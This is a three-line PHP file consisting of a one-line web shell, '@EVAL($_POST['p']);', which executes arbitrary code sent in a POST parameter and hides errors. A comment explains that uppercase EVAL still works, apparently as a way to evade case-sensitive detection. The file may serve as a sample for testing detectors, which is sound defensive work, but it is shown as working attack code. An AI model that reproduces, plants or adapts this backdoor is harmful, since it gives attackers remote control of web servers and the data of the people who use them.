<?php
// PHP function names are case-insensitive: EVAL is eval.
@EVAL($_POST['p']);
